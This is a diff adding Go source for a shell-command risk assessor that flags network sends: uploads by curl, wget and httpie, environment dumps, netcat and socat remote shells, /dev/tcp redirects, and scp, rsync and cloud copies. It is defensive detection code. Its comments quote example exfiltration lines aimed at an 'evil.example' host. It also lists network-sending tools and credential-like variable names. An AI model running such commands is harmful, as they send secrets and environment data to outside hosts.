@@ -1,0 +1,442 @@
+package permission
+
+import (
+	"strings"
+
+	"mvdan.cc/sh/v3/syntax"
+)
+
+// Sending files, command output or the environment over the network is
+// HIGH: that is how a hostile repository's instructions get secrets out.
+// Sends to loopback only (a project's own test server) are ordinary, and
+// so is everything but credentials when the OS sandbox keeps the network
+// on loopback (ShellContext.SandboxNet).
+
+// send rates a network send: credentials and the environment are HIGH
+// always, other data HIGH unless the sandbox keeps it on the machine.
+func (a *assessor) send(reason string, secret bool) {
+	if secret || !a.sandboxNet {
+		a.flag(High, reason)
+		return
+	}
+	a.raise(Medium)
+}
+
+// isLoopbackHost reports whether a host name or address is this machine.
+func isLoopbackHost(h string) bool {
+	h = strings.TrimSuffix(strings.TrimPrefix(strings.ToLower(h), "["), "]")
+	return h == "localhost" || strings.HasSuffix(h, ".localhost") || strings.HasPrefix(h, "127.") ||
+		h == "::1" || h == "0.0.0.0" || h == "0:0:0:0:0:0:0:1"
+}
+
+// hostOfURL extracts the host of a URL-ish word: scheme://user@host:port/…
+// or host:port/… or host/….
+func hostOfURL(s string) string {
+	if _, rest, ok := strings.Cut(s, "://"); ok {
+		s = rest
+	}
+	if i := strings.IndexAny(s, "/?#"); i >= 0 {
+		s = s[:i]
+	}
+	if i := strings.LastIndex(s, "@"); i >= 0 {
+		s = s[i+1:]
+	}
+	if strings.HasPrefix(s, "[") {
+		if i := strings.Index(s, "]"); i >= 0 {
+			return s[:i+1]
+		}
+	}
+	if strings.Count(s, ":") == 1 {
+		s, _, _ = strings.Cut(s, ":")
+	}
+	return s
+}
+
+// onlyLoopback reports whether every URL among a client's words points at
+// this machine (and there is at least one). Words that cannot be known
+// count as remote.
+func onlyLoopback(rest []arg) bool {
+	seen := false
+	for _, x := range rest {
+		if x.isOption() || strings.HasPrefix(x.text, "@") {
+			continue
+		}
+		if !strings.Contains(x.text, "://") && !strings.HasPrefix(x.text, "localhost") && !strings.HasPrefix(x.text, "127.") &&
+			!strings.HasPrefix(x.text, "[::1]") {
+			continue
+		}
+		if !x.known && strings.Index(x.text, unknownMark) < strings.Index(x.text, "://")+3+len(hostOfURL(x.text)) {
+			return false
+		}
+		if !isLoopbackHost(hostOfURL(x.text)) {
+			return false
+		}
+		seen = true
+	}
+	return seen
+}
+
+// curlDataOptions take data that curl reads from a file when it starts
+// with @ (--data-raw never does).
+var curlDataOptions = set("-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "--json")
+
+// uploads rates curl, wget and httpie sending files (-d @f, -F x=@f, -T f,
+// --post-file=f, field=@f) or command output ($(...) in any word).
+func (a *assessor) uploads(prog string, rest []arg) {
+	local := onlyLoopback(rest)
+	var files []arg
+	add := func(x arg, v string) {
+		y := x
+		y.text, y.globAt = v, -1
+		files = append(files, y)
+	}
+	for i, x := range rest {
+		next := func() (arg, bool) {
+			if i+1 < len(rest) {
+				return rest[i+1], true
+			}
+			return arg{}, false
+		}
+		opt, val, hasVal := strings.Cut(x.text, "=")
+		switch {
+		case prog == "curl" && curlDataOptions[x.text]:
+			if n, ok := next(); ok {
+				if _, f, ok := strings.Cut(n.text, "@"); ok && (strings.HasPrefix(n.text, "@") || x.text == "--data-urlencode") {
+					add(n, f)
+				}
+			}
+		case prog == "curl" && strings.HasPrefix(x.text, "-d@"):
+			add(x, x.text[3:])
+		case prog == "curl" && (x.text == "-F" || x.text == "--form"):
+			if n, ok := next(); ok {
+				if _, v, ok := strings.Cut(n.text, "="); ok && (strings.HasPrefix(v, "@") || strings.HasPrefix(v, "<")) {
+					v, _, _ = strings.Cut(v[1:], ";")
+					add(n, v)
+				}
+			}
+		case prog == "curl" && (x.text == "-T" || x.text == "--upload-file"):
+			if n, ok := next(); ok {
+				add(n, n.text)
+			}
+		case prog == "wget" && (opt == "--post-file" || opt == "--body-file"):
+			if hasVal {
+				add(x, val)
+			} else if n, ok := next(); ok {
+				add(n, n.text)
+			}
+		case (prog == "http" || prog == "https" || prog == "xh") && !x.isOption():
+			if k, v, ok := strings.Cut(x.text, "@"); ok && (k == "" || strings.HasSuffix(k, "=")) {
+				add(x, v)
+			}
+		}
+	}
+	for _, f := range files {
+		switch t := a.resolve(f); {
+		case f.text == "-" || f.text == "/dev/stdin":
+			if !local {
+				a.send(prog+" uploads what it reads on stdin", false)
+			}
+		case a.readsCredential(t):
+			a.flag(High, prog+" uploads credentials: "+t.shown)
+		case isProcEnviron(f):
+			a.flag(High, prog+" uploads a process's environment")
+		case !local:
+			a.send(prog+" uploads "+t.shown, false)
+		}
+	}
+	if !local {
+		a.sendsSubstitutions(prog, rest)
+	}
+}
+
+// sendsSubstitutions flags command output and secret-looking variables in
+// the words of a network client: curl "https://x/?d=$(cat f | base64)",
+// dig $(whoami).evil.example, curl -H "X: $GITHUB_TOKEN".
+func (a *assessor) sendsSubstitutions(prog string, rest []arg) {
+	seen := map[*syntax.Word]bool{}
+	for _, x := range rest {
+		if x.word == nil || seen[x.word] {
+			continue
+		}
+		seen[x.word] = true
+		syntax.Walk(x.word, func(n syntax.Node) bool {
+			switch n := n.(type) {
+			case *syntax.CmdSubst:
+				secret := false
+				for _, s := range n.Stmts {
+					secret = secret || a.dumpsEnvironment(s)
+				}
+				if secret {
+					a.flag(High, prog+" sends the environment over the network")
+				} else {
+					a.send(prog+" sends command output over the network", false)
+				}
+				return false
+			case *syntax.ParamExp:
+				if n.Param != nil && secretLookingName(n.Param.Value) {
+					a.flag(High, prog+" sends secret variable $"+n.Param.Value+" over the network")
+				}
+			}
+			return true
+		})
+	}
+}
+
+// secretLookingName reports whether a variable name looks like it holds a
+// credential.
+func secretLookingName(name string) bool {
+	u := strings.ToUpper(name)
+	for _, w := range []string{"KEY", "TOKEN", "SECRET", "PASSW", "CREDENTIAL", "AUTH", "PRIVATE", "COOKIE", "SESSION"} {
+		if strings.Contains(u, w) {
+			return true
+		}
+	}
+	return false
+}
+
+// dumpsEnvironment reports whether a statement prints the environment:
+// env, printenv, set, export -p, declare -x/-p, typeset, compgen -v/-e.
+func (a *assessor) dumpsEnvironment(s *syntax.Stmt) bool {
+	found := false
+	syntax.Walk(s, func(n syntax.Node) bool {
+		switch n := n.(type) {
+		case *syntax.CallExpr:
+			prog, args := a.effective(a.exp.expandAll(n.Args))
+			ops := operands(args, nil)
+			switch prog {
+			case "env", "printenv":
+				found = found || len(ops) == 0 || prog == "printenv" && secretLookingName(ops[0].text)
+			case "set", "export":
+				found = found || len(args) == 0 || hasOption(args, "-p")
+			case "compgen":
+				found = found || hasOption(args, "-v", "-e", "-A")
+			}
+			for _, x := range args {
+				found = found || isProcEnviron(x)
+			}
+		case *syntax.DeclClause:
+			if len(n.Args) == 0 {
+				found = true
+			}
+			for _, as := range n.Args {
+				if as.Name == nil && as.Value != nil {
+					if l := as.Value.Lit(); l == "-x" || l == "-p" || l == "-px" || l == "-xp" {
+						found = true
+					}
+				}
+			}
+		}
+		return !found
+	})
+	return found
+}
+
+// networkSenders send what they read on stdin to another machine.
+var networkSenders = set("nc", "ncat", "netcat", "socat", "telnet", "ssh", "openssl", "mail", "mailx",
+	"sendmail", "mutt", "ftp", "lftp", "tftp", "smbclient")
+
+// exfiltration rates what a pipeline feeds a network client: credentials,
+// the environment, or anything at all into a sender that ships stdin.
+func (a *assessor) exfiltration(stages []*syntax.Stmt) {
+	secret, env, local := "", false, false
+	for i, s := range stages {
+		call, ok := s.Cmd.(*syntax.CallExpr)
+		if !ok {
+			env = env || a.dumpsEnvironment(s)
+			continue
+		}
+		prog, args := a.effective(a.exp.expandAll(call.Args))
+		if i > 0 && (downloaders[prog] || networkSenders[prog]) {
+			local = onlyLoopback(args) || a.rawLoopback(prog, args)
+			switch {
+			case secret != "":
+				a.flag(High, prog+" sends credentials over the network: "+secret)
+				return
+			case env:
+				a.flag(High, prog+" sends the environment over the network")
+				return
+			case networkSenders[prog] && !local:
+				a.send("pipes data to "+prog+", which sends it to another machine", false)
+			}
+		}
+		env = env || a.dumpsEnvironment(s)
+		for _, x := range args {
+			if x.known && !x.isOption() && a.readsCredential(a.resolve(x)) {
+				secret = a.resolve(x).shown
+			}
+		}
+	}
+}
+
+// rawLoopback reports whether a raw-socket client (nc host port, socat
+// TCP:host:port, telnet host, openssl s_client -connect host:port) only
+// talks to this machine.
+func (a *assessor) rawLoopback(prog string, rest []arg) bool {
+	hosts := 0
+	for i, x := range rest {
+		switch {
+		case !x.known:
+			return false
+		case prog == "socat":
+			for _, addr := range []string{"TCP:", "TCP4:", "TCP6:", "UDP:", "UDP4:", "UDP6:", "OPENSSL:", "SSL:"} {
+				if rest, ok := strings.CutPrefix(strings.ToUpper(x.text), addr); ok {
+					host, _, _ := strings.Cut(x.text[len(x.text)-len(rest):], ":")
+					if !isLoopbackHost(host) {
+						return false
+					}
+					hosts++
+				}
+			}
+		case prog == "openssl":
+			if x.text == "-connect" && i+1 < len(rest) {
+				if !isLoopbackHost(hostOfURL(rest[i+1].text)) {
+					return false
+				}
+				hosts++
+			}
+		case x.isOption() || strings.Trim(x.text, "0123456789-") == "":
+		default:
+			if i > 0 && rest[i-1].isOption() && len(rest[i-1].text) == 2 && strings.Contains("pswiqxXOIT", rest[i-1].text[1:]) {
+				continue // the value of -p, -s, -w, ...
+			}
+			if !isLoopbackHost(hostOfURL(x.text)) {
+				return false
+			}
+			hosts++
+		}
+	}
+	return hosts > 0
+}
+
+// rawSocket rates nc, socat, telnet and openssl s_client: a shell wired
+// to a socket is HIGH always; a connection elsewhere than loopback is a
+// send; a bare listener is ordinary.
+func (a *assessor) rawSocket(prog string, rest []arg) {
+	for _, x := range rest {
+		u := strings.ToUpper(x.text)
+		if (prog != "socat" && prog != "openssl" && (x.text == "-e" || x.text == "-c" || strings.HasPrefix(x.text, "--exec") ||
+			strings.HasPrefix(x.text, "--sh-exec") || strings.HasPrefix(x.text, "--lua-exec"))) ||
+			(prog == "socat" && (strings.HasPrefix(u, "EXEC:") || strings.HasPrefix(u, "SYSTEM:"))) {
+			a.flag(High, prog+" connects a program to the network (remote shell)")
+			return
+		}
+	}
+	if prog == "openssl" && subcommand(prog, rest) != "s_client" {
+		return
+	}
+	if hasOption(rest, "-l", "--listen", "-lp", "-lvp", "-lnvp", "-nlvp", "-lv") && prog != "socat" {
+		a.raise(Medium)
+		return
+	}
+	if prog == "socat" {
+		listen := true
+		for _, x := range rest {
+			u := strings.ToUpper(x.text)
+			if !x.isOption() && !strings.Contains(u, "LISTEN") && !strings.HasPrefix(u, "STDIO") && x.text != "-" {
+				listen = false
+			}
+		}
+		if listen {
+			a.raise(Medium)
+			return
+		}
+	}
+	if a.rawLoopback(prog, rest) {
+		a.raise(Medium)
+		return
+	}
+	if prog == "nc" || prog == "ncat" || prog == "netcat" {
+		if hasOption(rest, "-z", "-zv", "-vz", "-zw1", "-vzw1") && onlyLoopbackOrUnset(rest) {
+			a.raise(Medium)
+			return
+		}
+	}
+	a.send(prog+" opens a raw network connection", false)
+}
+
+func onlyLoopbackOrUnset(rest []arg) bool {
+	for _, x := range rest {
+		if !x.isOption() && strings.Trim(x.text, "0123456789-") != "" && !isLoopbackHost(x.text) {
+			return false
+		}
+	}
+	return true
+}
+
+// devNet rates a redirection to bash's /dev/tcp/host/port or /dev/udp/….
+func (a *assessor) devNet(t string) bool {
+	rest, ok := strings.CutPrefix(t, "/dev/tcp/")
+	if !ok {
+		rest, ok = strings.CutPrefix(t, "/dev/udp/")
+	}
+	if !ok {
+		return false
+	}
+	host, _, _ := strings.Cut(rest, "/")
+	if !isLoopbackHost(host) {
+		a.send("opens a network connection through "+t, false)
+	}
+	a.raise(Medium)
+	return true
+}
+
+// remoteOperand reports whether a word names a remote path for scp/rsync:
+// host:path or user@host:path (not /abs, ./rel, or C:\…).
+func remoteOperand(x arg) bool {
+	t := x.text
+	if strings.HasPrefix(t, "/") || strings.HasPrefix(t, ".") || strings.HasPrefix(t, "~") {
+		return false
+	}
+	if strings.HasPrefix(t, "rsync://") || strings.HasPrefix(t, "scp://") || strings.HasPrefix(t, "sftp://") {
+		return true
+	}
+	i := strings.Index(t, ":")
+	return i > 0 && !strings.Contains(t[:i], "/")
+}
+
+// transfer rates scp, rsync, sftp, rclone and cloud copies: a remote
+// destination sends files off the machine.
+func (a *assessor) transfer(prog string, rest []arg) {
+	switch prog {
+	case "sftp", "ftp", "lftp", "tftp", "smbclient":
+		a.send(prog+" transfers files to another machine", false)
+		return
+	case "mail", "mailx", "sendmail", "mutt":
+		a.send(prog+" sends mail", false)
+		return
+	case "rclone":
+		sub := subcommand(prog, rest)
+		ops := operands(rest, nil)
+		if (sub == "copy" || sub == "sync" || sub == "move" || sub == "copyto" || sub == "moveto") && len(ops) >= 3 &&
+			strings.Contains(ops[len(ops)-1].text, ":") {
+			a.send("rclone "+sub+" sends files to a remote", false)
+		}
+		return
+	case "gsutil", "aws", "az":
+		ops := operands(rest, set("--profile", "--region", "--endpoint-url"))
+		if len(ops) >= 3 {
+			last := ops[len(ops)-1].text
+			if (prog == "gsutil" || ops[0].text == "s3") && (strings.HasPrefix(last, "s3://") || strings.HasPrefix(last, "gs://")) {
+				a.send(prog+" uploads files to a bucket", false)
+			}
+		}
+		if prog == "az" && hasOption(rest, "upload", "upload-batch") {
+			a.send("az uploads files", false)
+		}
+		return
+	}
+	ops := operands(rest, set("-P", "-i", "-o", "-F", "-l", "-S", "-c", "-J", "-e", "--rsh", "-f", "--filter",
+		"--exclude", "--include", "--port"))
+	if len(ops) < 2 {
+		return
+	}
+	dest := ops[len(ops)-1]
+	if !dest.known || remoteOperand(dest) {
+		for _, s := range ops[:len(ops)-1] {
+			if t := a.resolve(s); s.known && a.readsCredential(t) {
+				a.flag(High, prog+" sends credentials to another machine: "+t.shown)
+			}
+		}
+		a.send(prog+" sends files to another machine: "+dest.raw(), false)
+	}
+}
